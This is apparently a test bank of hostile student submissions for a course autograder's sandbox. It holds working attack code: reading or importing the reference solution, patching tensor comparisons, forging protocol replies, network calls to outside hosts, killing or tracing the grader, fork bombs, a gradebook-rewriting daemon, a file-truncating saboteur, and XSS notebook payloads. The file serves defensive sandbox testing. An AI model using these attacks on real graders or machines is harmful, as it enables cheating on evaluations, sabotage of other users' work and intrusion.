"""A bank of hostile submissions, each a few edits on top of a base, with the exact score it earns.

Bases: ``blank`` (the stubs in assignments/), ``good`` (the reference, minus its tests),
``simple`` (simple_attention.py solved, the other four parts blank: 15 points at most, and
fast to grade) and ``empty`` (no file). A case replaces or edits files of its base and adds files of its own.

Attacks on the sandbox start from blank stubs and are *gated*: the module carries the
reference source of simple_attention and runs it only if the attack worked (``PWNED``), so
an attack that succeeds shows up as undeserved points (15) instead of passing unnoticed.
Failure modes start from ``simple`` or ``good`` and break one thing: the score must be
what the honest rest earns, no more, no less.

Placeholders filled in when a case is written out (see ``materialize``):
@MARKERS@ a folder the grader's side watches (must stay empty), @PORT@ a TCP and UDP port
the test listens on in the grader's process, @UNIX@ an abstract Unix socket it listens on,
@PID@ the pid of the test process, @REPO@ the repository, @OUT@ the class run's output
folder, @TOKEN@ a per-run random name, @BLANK_PRINT@ the fingerprint of the blank
neighbour ``zz_blank``, @SOLUTION@ the reference simple_attention.py as a string literal.
"""
import os
from dataclasses import dataclass, field

from autograder.paths import ASSIGNMENTS, SOLUTIONS

MODULES = ("simple_attention", "self_attention", "causal_attention", "multihead_attention", "exercises")
SIMPLE_FUNCTIONS = ("dot_product_loop", "attn_scores_for_query", "attn_scores_loop", "attn_scores_matmul",
                    "normalize_by_sum", "softmax_naive", "attn_weights_from_scores", "context_vector_for_query",
                    "all_context_vectors")


class Symlink(str):
    """A file that is a symbolic link to this (placeholder-expanded) target."""


class Fifo:
    """A named pipe."""


class Folder:
    """A directory (with a .py name, to trip a reader that expects files)."""


@dataclass
class Case:
    name: str
    category: str
    base: str                      # "blank", "good", "simple" or "empty"
    score: int                     # exactly what the submission must get
    files: dict = field(default_factory=dict)   # name -> text, Symlink, Fifo, Folder, or fn(old text) -> text
    note: str = ""                 # a phrase that must appear in the result's output (notes) or a failed check
    tokens: tuple = ()             # process names (comm) that must be gone once the run ends
    folder: str = ""               # the student folder's name, where it is the attack (default: name)
    link: str = ""                 # the student folder is a symbolic link to this
    graded: bool = True            # False: refused as a whole (grades.csv says why, with ``note``)


def append(code):
    """Edit: add code at the end of the base file (redefinitions win)."""
    return lambda text: text + "\n\n" + code.strip("\n") + "\n"


def prepend(code):
    return lambda text: code.strip("\n") + "\n" + text


def replace(old, new):
    def edit(text):
        assert text.count(old) == 1, old
        return text.replace(old, new)
    return edit


def gated(attack):
    """Blank simple_attention.py plus an attack that earns the reference's 15 points only if it works."""
    return append("PWNED = False\n" + attack.strip("\n") + "\n\nif PWNED:\n    exec(@SOLUTION@, globals())\n")


def everywhere(code):
    """The same edit on every module of the base (so every probe meets it)."""
    return {f"{m}.py": prepend(code) for m in MODULES}


# --- the attacks ----------------------------------------------------------------------------

READ_REFERENCE = r'''
import os, time
SECRET = "def attn_scores_matmul"
def _looks_like_reference(path):
    try:
        with open(path, errors="replace") as handle:
            text = handle.read(200000)
    except Exception:
        return False
    return SECRET in text and "NotImplementedError" not in text
candidates = ["@REPO@/solutions/ch03_attention/simple_attention.py",
              "/proc/self/root@REPO@/solutions/ch03_attention/simple_attention.py",
              "/proc/1/root@REPO@/solutions/ch03_attention/simple_attention.py",
              "/proc/1/cwd/solutions/ch03_attention/simple_attention.py",
              "/work/main/solutions/ch03_attention/simple_attention.py",
              "../solutions/ch03_attention/simple_attention.py",
              "/oldroot@REPO@/solutions/ch03_attention/simple_attention.py"]
import sys
for path in list(getattr(sys.modules.get("autograder"), "__path__", [])):
    candidates.append(os.path.join(path, "..", "solutions", "ch03_attention", "simple_attention.py"))
    candidates.append(os.path.join(path, "suites", "ch03_attention", "test_hidden_simple_attention.py"))
for fd in range(3, 64):
    candidates.append(f"/proc/self/fd/{fd}/../solutions/ch03_attention/simple_attention.py")
for path in candidates:
    if _looks_like_reference(path):
        PWNED = True
# Search the whole visible file system for anything that looks like the reference or the suites.
deadline = time.monotonic() + 1.0
for top, dirs, files in os.walk("/"):
    if time.monotonic() > deadline or PWNED:
        break
    dirs[:] = [d for d in dirs if not (top == "/" and d in ("proc", "sys", "dev"))]
    for f in files:
        if f in ("simple_attention.py", "test_hidden_simple_attention.py", "conftest.py") and \
                _looks_like_reference(os.path.join(top, f)):
            PWNED = True
'''

IMPORT_REFERENCE = r'''
import importlib, sys
for folder in ("@REPO@", "@REPO@/solutions", "@REPO@/solutions/ch03_attention", "/work/main"):
    sys.path.insert(0, folder)
for name in ("solutions.ch03_attention.simple_attention", "autograder.paths", "autograder.grading.compare",
             "autograder.suites.ch03_attention.conftest", "_attention", "test_hidden_simple_attention"):
    try:
        module = importlib.import_module(name)
        PWNED = PWNED or name == "autograder.grading.compare" or hasattr(module, "all_context_vectors") or hasattr(module, "SOLUTIONS")
    except BaseException:
        pass
try:  # the reference served by the child's own finder under another name?
    import importlib.util
    spec = importlib.util.find_spec("solutions")
    PWNED = PWNED or spec is not None
except BaseException:
    pass
'''

GC_WALK = r'''
import gc, sys
for obj in gc.get_objects():
    try:
        code = getattr(obj, "__code__", None)
        filename = code.co_filename if code is not None else ""
        if "solutions" in filename or "suites" in filename or "test_hidden" in filename:
            PWNED = True
        if type(obj).__name__ == "module" and getattr(obj, "__name__", "") in ("conftest", "_attention"):
            PWNED = True
    except Exception:
        pass
for name, module in list(sys.modules.items()):
    if "solutions" in name or "test_hidden" in name or name in ("conftest", "_attention", "autograder.grading.compare"):
        PWNED = True
for frame in sys._current_frames().values():
    while frame is not None:
        if "ref" in frame.f_locals and frame.f_code.co_filename.startswith("/submission") is False:
            PWNED = PWNED or hasattr(frame.f_locals["ref"], "simple_attention")
        frame = frame.f_back
'''

MONKEYPATCH = r'''
import sys, types, torch
always = lambda *args, **kwargs: True
torch.allclose = torch.equal = always
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: True
fake = types.ModuleType("autograder.grading.compare")
fake.expect_close = fake.expect_tensor = lambda *args, **kwargs: None
fake._close = always
sys.modules["autograder.grading.compare"] = fake
import autograder
autograder.grading = sys.modules.setdefault("autograder.grading", types.ModuleType("autograder.grading"))
autograder.grading.compare = fake
for name in @FUNCTIONS@:
    globals()[name] = lambda *args, **kwargs: torch.zeros(3)
'''

SPOOF_FRAMES = r'''
import json, os, socket, stat, struct, sys, torch
import autograder.sandbox.child as child, autograder.sandbox.protocol as protocol
def frame(header, blob=b""):
    data = json.dumps(header).encode()
    return struct.pack(">IQ", len(data), len(blob)) + data + blob
lies = [frame({"ok": True}), frame({"ok": True, "value": {"$tensor": "7"}, "imported": 5}),
        frame({"ok": True, "outputs": [], "info": {"type": 3}}), frame({"ok": "yes"}), frame([1, 2]),
        struct.pack(">IQ", 1 << 31, 1 << 40), b"\xff" * 64]
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            for lie in lies:
                os.write(fd, lie)
    except OSError:
        pass
# Rewrite the child's own ops and encoder: every answer from now on is malformed.
child.OPS.update(plan=lambda req: {"values": {step["let"]: {"type": "CausalAttention", "params": {}, "buffers": {},
                                                            "state_keys": ["mask"], "tensors": {}, "attrs": {}}
                                              for step in req["steps"] if "describe" in step},
                                   "records": {}, "errors": {}})
_encode = protocol.encode
protocol.encode = lambda reply: _encode({**reply, "ok": True, "imported": 5, "value": {"a": [None]}})
'''

WRITE_OUTSIDE = r'''
import json, os
targets = ["@MARKERS@/written", "@REPO@/pwned", "@OUT@/evil.json", "/tmp/pwned-@TOKEN@"]
fake = {"score": 100, "max_score": 100, "tests": [], "output": "",
        "extra_data": {"parts": {}, "isolation": "namespaces", "fingerprint": "@BLANK_PRINT@"}}
for path in ["@OUT@/zz_blank.json", "@OUT@/05_gated_write_outside.json", "@OUT@/grades.csv"]:
    try:
        with open(path, "w") as handle:
            json.dump(fake, handle)
        PWNED = True
    except OSError:
        pass
for path in targets:
    try:
        with open(path, "w") as handle:
            handle.write("pwned")
        PWNED = PWNED or not path.startswith("/tmp/")   # the child's /tmp is its own tmpfs
    except OSError:
        pass
try:
    os.symlink("@MARKERS@", "/tmp/escape-@TOKEN@")
    with open("/tmp/escape-@TOKEN@/via-symlink", "w") as handle:
        handle.write("pwned")
    PWNED = True
except OSError:
    pass
'''

NETWORK = r'''
import socket
attempts = [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
            (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
            (socket.AF_INET, socket.SOCK_STREAM, ("8.8.8.8", 443)),
            (socket.AF_UNIX, socket.SOCK_STREAM, "\0@UNIX@")]
for family, kind, address in attempts:
    try:
        s = socket.socket(family, kind)
        s.settimeout(0.5)
        s.connect(address)
        s.sendall(b"pwned")
        PWNED = True
    except OSError:
        pass
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"pwned", ("127.0.0.1", @PORT@))
    PWNED = True
except OSError:
    pass
try:
    socket.getaddrinfo("example.com", 80)
    PWNED = True
except OSError:
    pass
'''

TRACE_GRADER = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
for pid in (@PID@, os.getppid(), 1):
    for what in ("mem", "environ", "maps", "cmdline"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as handle:
                data = handle.read(4096)
            # our own namespace's pid 1 is ourselves: that is not the grader
            if pid != 1 and pid != os.getpid() and data:
                PWNED = True
        except OSError:
            pass
    if pid not in (0, os.getpid()) and libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        PWNED = True
# Does anything of the grader's environment reach us? (the test sets HOSTILE_SECRET for the CLI)
try:
    environ = open("/proc/self/environ", "rb").read()
except OSError:
    environ = b""
if "HOSTILE_SECRET" in os.environ or b"HOSTILE_SECRET" in environ:
    PWNED = True
'''

HIDDEN_MEMORY = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
# Memory RLIMIT_AS does not count: pages of a memfd kept open, and a tmpfs of our own in a user
# (and mount) namespace we make ourselves. Either one held is the attack working.
try:
    held = os.memfd_create("held")
    os.write(held, b"x" * (8 << 20))
    PWNED = True
except OSError:
    pass
if libc.unshare(0x10000000 | 0x00020000) == 0:     # CLONE_NEWUSER | CLONE_NEWNS
    os.makedirs("/tmp/held", exist_ok=True)
    if libc.mount(b"none", b"/tmp/held", b"tmpfs", 0, b"size=64m") == 0:
        PWNED = True
'''

KILL_GRADER = r'''
import os, signal
for action in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(@PID@, signal.SIGKILL),
               lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL),
               lambda: os.kill(-1, signal.SIGSTOP)):
    try:
        action()
    except OSError:
        pass
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
'''

# A tensor subclass that says "equal" to every comparison, and an object that says it is a tensor.
LIAR_TENSOR = r'''
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        if func in (torch.isclose, torch.Tensor.__eq__, torch.isfinite):
            return torch.ones(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})
for name in @FUNCTIONS@:
    globals()[name] = lambda *args, **kwargs: torch.zeros(args[0].shape if hasattr(args[0], "shape") else ()).as_subclass(Liar)
'''

FAKE_TENSOR = r'''
import torch
class Fake:
    __class__ = property(lambda self: torch.Tensor)
    shape = torch.Size([6, 3])
    dtype = torch.float32
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return lambda *args, **kwargs: self
for name in @FUNCTIONS@:
    globals()[name] = lambda *args, **kwargs: Fake()
'''

# The reference's answers on the book's own inputs, typed in by hand (filled in by materialize).
HARDCODE_BOOK = "@HARDCODED@"

ESCAPE_LOOP = r'''
def softmax_naive(x):
    import ctypes, os, signal
    os.setsid()                      # leave the process group the grader kills
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
        signal.signal(sig, signal.SIG_IGN)
    ctypes.CDLL(None).prctl(15, b"@TOKEN@a", 0, 0, 0)   # PR_SET_NAME: the test looks for it afterwards
    if os.fork() == 0:
        os.setsid()
    while True:
        pass
'''

FORK_STORM = r'''
def attn_scores_matmul(inputs):
    import ctypes, os
    ctypes.CDLL(None).prctl(15, b"@TOKEN@b", 0, 0, 0)
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''

MEMORY = r'''
def attn_scores_loop(inputs):
    import torch
    try:
        bytearray(1 << 40)
    except MemoryError:
        pass
    hog = []
    while True:
        hog.append(torch.ones(1 << 26))   # 256 MiB a step, touched, until the limit stops it
'''

HUGE_OUTPUT = r'''
import os, struct, sys, json
_frame = json.dumps({"ok": True, "value": 1.0}).encode()
_fake = struct.pack(">IQ", len(_frame), 0) + _frame
for _ in range(64):
    sys.stdout.write("x" * (1 << 18) + "\n")
    sys.stderr.write("y" * (1 << 18) + "\n")
    os.write(1, _fake)
    os.write(2, _fake)
print(json.dumps({"score": 100, "max_score": 100}))
'''

EVIL_EXCEPTIONS = r'''
class Unprintable(Exception):
    def __str__(self):
        raise RuntimeError("cannot print me")
    def __repr__(self):
        raise RuntimeError("cannot repr me")

class Flood(Exception):
    def __str__(self):
        return "\x1b[31m" + "A\n[passed] 100/100\r" * 500000

def dot_product_loop(x, y):
    raise KeyboardInterrupt

def normalize_by_sum(attn_scores):
    raise Unprintable()

def context_vector_for_query(inputs, attn_weights):
    raise Flood()
'''

TOOL_FILES = {
    "conftest.py": "open('@MARKERS@/conftest', 'w').close()\nimport pytest\n@pytest.fixture\ndef student():\n    raise SystemExit\n",
    "sitecustomize.py": "open('@MARKERS@/sitecustomize', 'w').close()\n",
    "usercustomize.py": "open('@MARKERS@/usercustomize', 'w').close()\n",
    "hostile_plugin.py": "open('@MARKERS@/plugin', 'w').close()\n",
    "compare.py": "open('@MARKERS@/compare', 'w').close()\n",
    "_attention.py": "open('@MARKERS@/attention_helper', 'w').close()\n",
    "__init__.py": "open('@MARKERS@/package_init', 'w').close()\n",
    "evil.pth": "import os; open('@MARKERS@/pth', 'w').close()\n",
    "pytest.ini": "[pytest]\naddopts = -p hostile_plugin\npython_files = *.py\n",
    "tox.ini": "[pytest]\naddopts = -p hostile_plugin\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p hostile_plugin\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p hostile_plugin'\n",
}

SYSV_SHM = r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.restype = ctypes.c_int
shmid = libc.shmget(0, ctypes.c_size_t(4 << 30), 0o1600)   # IPC_PRIVATE, IPC_CREAT | 0600: 4 GiB
if shmid >= 0:       # held outside the memory limit until someone removes it
    PWNED = True
    libc.shmctl(shmid, 0, None)                              # IPC_RMID: do not actually keep it
if libc.msgget(0, 0o1600) >= 0:
    PWNED = True
'''

KEYRING = r'''
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ADD_KEY, KEYCTL = {"aarch64": (217, 219)}.get(platform.machine(), (248, 250))
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING, KEYCTL_READ = -3, -4, 11
# a key on nobody's user keyring is a channel to the next submission and the next run
if libc.syscall(ADD_KEY, b"user", b"hostile-@TOKEN@", b"x", 1, KEY_SPEC_USER_KEYRING) >= 0:
    PWNED = True
buffer = ctypes.create_string_buffer(4096)   # the grader's login keys, if the session keyring is shared
if libc.syscall(KEYCTL, KEYCTL_READ, KEY_SPEC_SESSION_KEYRING, buffer, 4096) > 0:
    PWNED = True
'''

# Bytes queued in a Unix socket are kernel memory that neither RLIMIT_AS nor (with no memory cgroup)
# anything else counts: a child and its forks held 1.5 GiB that way. The child needs no new socket.
SOCKET_QUEUES = r"""
import socket
held = []
try:
    a, b = socket.socketpair()
    a.setblocking(False)
    try:
        while True:                      # fill the pair's queue until it blocks
            a.send(b"q" * 65536)
    except BlockingIOError:
        pass
    held.append((a, b))
    PWNED = True
except OSError:
    pass
for family, kind in ((socket.AF_UNIX, socket.SOCK_STREAM), (socket.AF_UNIX, socket.SOCK_DGRAM),
                     (socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_DGRAM)):
    try:
        held.append(socket.socket(family, kind))
        PWNED = True
    except OSError:
        pass
"""

# What Docker's default profile refuses: io_uring, perf events, userfaultfd (raw syscalls, so no
# library's own check stands in the way).
KERNEL_SURFACE = r"""
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
IO_URING_SETUP, PERF_EVENT_OPEN, USERFAULTFD = {"aarch64": (425, 241, 282)}.get(platform.machine(), (425, 298, 323))
if libc.syscall(IO_URING_SETUP, 8, ctypes.create_string_buffer(120)) >= 0:   # zeroed io_uring_params
    PWNED = True
attr = bytearray(128)                                    # perf_event_attr: software cpu clock,
attr[0:4], attr[4:8] = (1).to_bytes(4, "little"), (128).to_bytes(4, "little")
attr[40:48] = (1 | 1 << 5 | 1 << 6).to_bytes(8, "little")   # disabled, user space only (paranoid 2 allows it)
if libc.syscall(PERF_EVENT_OPEN, ctypes.create_string_buffer(bytes(attr), 128), ctypes.c_long(0),
                ctypes.c_long(-1), ctypes.c_long(-1), ctypes.c_long(0)) >= 0:
    PWNED = True
for flags in (os.O_CLOEXEC | 1, os.O_CLOEXEC):          # UFFD_USER_MODE_ONLY (unprivileged), then all
    if libc.syscall(USERFAULTFD, ctypes.c_long(flags)) >= 0:
        PWNED = True
"""

# Two correct functions that also ask for a socket pair and an io_uring: each refusal must reach
# the feedback as the check's failure, and cost that function's point only.
REFUSED_CALLS = r"""
import ctypes, os, socket
_softmax_naive, _dot_product_loop = softmax_naive, dot_product_loop

def softmax_naive(x):
    a, b = socket.socketpair()
    a.close()
    b.close()
    return _softmax_naive(x)

def dot_product_loop(x, y):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    if libc.syscall(425, 8, ctypes.create_string_buffer(120)) < 0:   # io_uring_setup, both machines
        raise OSError(ctypes.get_errno(), "io_uring_setup: " + os.strerror(ctypes.get_errno()))
    return _dot_product_loop(x, y)
"""


# The child's report of where the code raised, rewritten to point into a generated function of
# 98 nested loops around 20,000 names (a file never imported: Python would refuse its nesting).
# Every failed check's explanation walked it once per loop: 2 million nodes, seconds of the
# grader's CPU each.
FORGED_WHERE = r"""
import sys
_child = sys.modules["autograder.sandbox.child"]
_own = _child.OPS["plan"]

def _forged(request):
    reply = _own(request)
    for name in reply["errors"]:
        reply.setdefault("wheres", {})[name] = {"module": "generated", "function": "f", "line": 101,
                                                "tensors": {"x": [2, 3]}}
    return reply

_child.OPS["plan"] = _forged

def softmax_naive(x):
    return x @ torch.ones(7, 7)
"""
GENERATED = ("def f(x):\n" + "".join(" " * (d + 1) + f"for i{d} in x:\n" for d in range(98))
             + " " * 99 + "y = [" + ",".join(["x"] * 20000) + "]\n" + " " * 99 + "z = x @ x\n")


# Frames written straight onto the channel at import, before the real answer.
def _raw_frame(build):
    return prepend(r'''
import json, os, socket, stat, struct
''' + build.strip("\n") + r'''
for _fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(_fd).st_mode):
            socket.socket(fileno=os.dup(_fd)).sendall(struct.pack(">IQ", len(_header), len(_blob)) + _header + _blob)
    except OSError:
        pass
''')


DEEP_JSON = _raw_frame('''
_header, _blob = ('{"ok": true, "value": ' + '{"a": ' * 600 + '1' + '}' * 601).encode(), b""
''')

MANY_TENSORS = _raw_frame('''
_meta = b"{" + b",".join(b'"%d":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}' % i
                         for i in range(250_000)) + b"}"
_meta += b" " * (-len(_meta) % 8)
_blob = struct.pack("<Q", len(_meta)) + _meta        # 250,000 empty tensors, 14 MB: under the byte cap
_header = json.dumps({"ok": True, "value": {"$tensor": "0"}}).encode()
''')

ERROR_KEYS = r'''
import autograder.sandbox.child as _child
_plan = _child.OPS["plan"]
def _bad_keys(req):
    reply = _plan(req)
    reply["errors"] = {"case " + k: v for k, v in reply["errors"].items()} or {"first": "boom"}
    return reply
_child.OPS["plan"] = _bad_keys
'''

# Stops reading the channel when the grader sends a large request (GPT-2 small's weights),
# without using any CPU: a blocking send would wait for ever.
STOP_READING = r'''
import socket as _socket, struct as _struct, time as _time
import autograder.sandbox.protocol as _protocol
_recv = _protocol.recv
def _stalling_recv(sock, deadline=None):
    head = sock.recv(12, _socket.MSG_PEEK)
    if len(head) == 12 and _struct.unpack(">IQ", head)[1] > (1 << 20):
        _time.sleep(10 ** 6)
    return _recv(sock, deadline)
_protocol.recv = _stalling_recv
'''
# GPT-2 small's module drawn after one more random number: its weights are not the reference's
# draw, so the grader sends the reference's 9 MB (the large request the child stops reading at).
OTHER_DRAW = r'''
_book_gpt2_small_mha = build_gpt2_small_mha
def build_gpt2_small_mha(dropout=0.0):
    torch.rand(1)
    return _book_gpt2_small_mha(dropout)
'''

# Answers the child makes up without the student's code: the weight transfer (v2's weights,
# transposed, are in the request) and a module description that claims the book's structure.
# Answers the child makes up without the student's code: the weight transfer (v1's weights the
# transposes of v2's, both invented), a module description that claims the book's structure,
# and zeros for every other value.
FORGED_REPLIES = r'''
import torch
import autograder.sandbox.child as _child
def _forged_plan(req):
    values, weights = {}, {n: torch.rand(3, 4) for n in ("W_query", "W_key", "W_value")}
    for step in req["steps"]:
        let = step["let"]
        if "describe" in step:
            heads = 2
            values[let] = {"type": "MultiHeadAttentionWrapper", "buffers": {}, "state_keys": [], "tensors": {},
                           "params": {f"heads.{i}.{w}.weight": [2, 4] for i in range(heads) for w in weights},
                           "attrs": {"heads": {"class": "ModuleList", "torch": ["ModuleList", "Module"],
                                               "items": ["CausalAttention"] * heads}}}
        elif "parameters" in step:
            values[let] = ({f"{n}.weight": w for n, w in weights.items()} if step["parameters"] == "v2"
                           else {n: w.T.contiguous() for n, w in weights.items()})
        elif step.get("return"):
            values[let] = torch.zeros(1)
    return {"values": values, "errors": {}, "records": {s["let"]: {r: [] for r in s["record"]}
                                                        for s in req["steps"] if "record" in s}}
_child.OPS["plan"] = _forged_plan
'''

LONG_NAME = "a" * 245
ESCAPES = "\x1b]2;graded 100 of 100\x07\x1b[2J\x1b[1;32m"



# Started at import (in the CLI's child, or in the notebook's kernel under nbgrader autograde): a
# process detached by setsid and a double fork, deaf to SIGHUP, that for a minute keeps rewriting
# nbgrader's gradebook (@GRADEBOOK@: full marks for its author, 0 for everyone else, so it wins
# even after the scores are saved) and drops files in @MARKERS@, the course and the exchange.
# Placeholders a run does not fill are skipped. It must be gone before any score is saved.
DETACHED_EDITOR = r'''
def _detached_editor():
    import ctypes, os, signal, sqlite3, time
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    ctypes.CDLL(None).prctl(15, b"@TOKEN@d", 0, 0, 0)
    me = os.path.basename(os.path.dirname(os.getcwd()))
    full_marks = """UPDATE grade SET manual_score = CASE WHEN notebook_id IN (
        SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id
        WHERE sa.student_id = ?) THEN (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)
        ELSE 0 END"""
    end = time.time() + 60
    while time.time() < end:
        for folder in ("@MARKERS@", "@COURSE@", "@EXCHANGE@"):
            if not folder.startswith("@"):
                try:
                    open(os.path.join(folder, f"detached-{os.getpid()}"), "w").close()
                except OSError:
                    pass
        if not "@GRADEBOOK@".startswith("@"):
            try:
                with sqlite3.connect("@GRADEBOOK@", timeout=1) as db:
                    db.execute(full_marks, (me,))
            except Exception:
                pass
        time.sleep(0.2)
    os._exit(0)

_detached_editor()
print("detached editor started")
'''


# Chapter 5 (issue 43), started at import: a process double-forked into a session of its own,
# deaf to SIGHUP, named @TOKEN@, that for two minutes watches /tmp with inotify and truncates every
# `ch05-*.pth` a checkpoint check writes there (a later student's, between its save and its load),
# tries to enter every other child's temporary folder (the parent of its own TMPDIR, by pid), and
# reads every process's command line. What it saw and did goes, a JSON line each, to
# /tmp/@TOKEN@.log (world-writable where there is no private root; its own /tmp where there is):
# "seen" (a checkpoint: its owner, and whether it was truncated), "entered" (another child's
# folder it could list or write), "cmdlines" (how many of other users' it read, how many hold
# `--out`) and "alive" (a time, five times a second).
TMP_TRUNCATOR = r'''
def _truncator():
    import ctypes, glob, json, os, select, signal, struct, time
    if os.environ.get("TRUNCATOR_STARTED"):
        return
    os.environ["TRUNCATOR_STARTED"] = "1"
    if os.fork():
        os.wait()
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(15, b"@TOKEN@", 0, 0, 0)
    log = open("/tmp/@TOKEN@.log", "a", buffering=1)

    def say(**what):
        log.write(json.dumps({"pid": os.getpid(), "uid": os.getuid(), **what}) + "\n")

    me, base = os.getuid(), os.path.dirname(os.environ.get("TMPDIR", "/tmp/x"))
    read = out = 0
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if os.stat(os.path.dirname(cmdline)).st_uid != me:
                with open(cmdline, "rb") as handle:
                    text = handle.read()
                read += bool(text)
                out += b"--out" in text
        except OSError:
            pass
    say(cmdlines=read, out=out)
    inotify = libc.inotify_init1(0)
    libc.inotify_add_watch(inotify, b"/tmp", 0x100)   # IN_CREATE
    done, beat, end = set(), 0.0, time.time() + 120
    while time.time() < end:
        if select.select([inotify], [], [], 0.05)[0]:
            data = os.read(inotify, 65536)
        else:
            data = b""
        while data:
            _, _, _, size = struct.unpack("iIII", data[:16])
            name = data[16:16 + size].rstrip(b"\0").decode(errors="replace")
            data = data[16 + size:]
            if not (name.startswith("ch05-") and name.endswith(".pth")):
                continue
            path, owner = "/tmp/" + name, None
            try:   # opened as it appears, emptied while it is written and for a while after
                owner = os.stat(path).st_uid
                fd = os.open(path, os.O_WRONLY)
                stop = time.time() + 0.3
                while time.time() < stop:
                    os.ftruncate(fd, 0)
                os.close(fd)
                say(seen=name, owner=owner, truncated=True)
            except FileNotFoundError:
                pass   # gone before it was opened
            except OSError:
                say(seen=name, owner=owner, truncated=False)
        if time.time() > beat:
            for entry in os.listdir("/proc"):
                folder = os.path.join(base, entry)
                if entry.isdigit() and folder != os.environ.get("TMPDIR") and folder not in done:
                    try:
                        os.listdir(folder)
                        say(entered=folder)
                        done.add(folder)
                    except OSError:
                        pass
            say(alive=time.time())
            beat = time.time() + 0.2
    os._exit(0)

_truncator()
'''


# --- a student's notebook in the pages people open (issue 17) ---------------------------------
# Each payload, if it ever runs in a browser, asks http://127.0.0.1:@PORT@/ran/<name> and adds
# "ran-<name>" to the page's title; a remote resource asks .../remote/<name>. Backquotes only, so
# the JavaScript fits in any HTML attribute and any Python string. The honest cells must still show.

def ran(name):
    return f"fetch(`http://127.0.0.1:@PORT@/ran/{name}`);document.title+=`ran-{name}`"


def remote(name):
    return f"http://127.0.0.1:@PORT@/remote/{name}"


PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5E"
       "rkJggg==")
SVG_SCRIPT = (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
              f'width="40" height="20" onload="{ran("svg-onload")}"><script>{ran("svg-script")}</script>'
              f'<a xlink:href="javascript:{ran("svg-link")}"><text y="15">svg</text></a>'
              f'<image href="{remote("svg-image")}" width="1" height="1"/></svg>')
HONEST_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20"/></svg>'


def _code(source):
    return {"cell_type": "code", "source": source.strip("\n")}


def _show(data, metadata=None):
    """A code cell that publishes ``data`` (mimetype -> value) as one display output."""
    return _code(f"from IPython.display import publish_display_data\npublish_display_data({data!r}, "
                 f"metadata={metadata or {}!r})")


def _html(html):
    return _show({"text/html": html, "text/plain": "html"})


# The issue's own finding, as a student would write it.
SCRIPT_IN_OUTPUT_CELLS = [
    _code(f"""from IPython.display import HTML, display
display(HTML('<script>{ran("html-script")}</script><img src=x onerror="{ran("html-onerror")}">'))"""),
]

HONEST_CELLS = [
    _code('print("HONEST-PRINT", 6 * 7)'),
    _html("<table><thead><tr><th>part</th><th>points</th></tr></thead>"
          "<tbody><tr><td>HONEST-TABLE</td><td>15</td></tr></tbody></table>"),
    _show({"image/png": PNG, "text/plain": "png"}),
    _show({"image/svg+xml": HONEST_SVG, "text/plain": "svg"}),
    _show({"text/markdown": "**HONEST-MARKDOWN-OUTPUT**", "text/plain": "md"}),
    {"cell_type": "markdown", "source": "**HONEST-MARKDOWN** with `a < b & c` and a [link](https://example.org)\n\n"
                                        "> HONEST-QUOTE\n\n$x^2$"},
]

ACTIVE_CONTENT_CELLS = [
    _code(f"""from IPython.display import Javascript, display
display(Javascript('{ran("javascript-output")}'))"""),
    _show({"application/javascript": ran("javascript-mime"), "text/html": "<b>js</b>"}),
    _show({"image/svg+xml": SVG_SCRIPT, "text/plain": "svg"}),
    _html(f'<svg onload="{ran("inline-svg")}"><script>{ran("inline-svg-script")}</script></svg>'
          f'<math><mtext><img src=x onerror="{ran("math")}"></mtext></math>'),
    _html(f'<details open ontoggle="{ran("ontoggle")}"><summary>s</summary></details>'
          f'<input autofocus onfocus="{ran("onfocus")}"><video src=x onerror="{ran("video")}"></video>'
          f'<body onload="{ran("body-onload")}"><div onmouseover="{ran("onmouseover")}">hover</div>'),
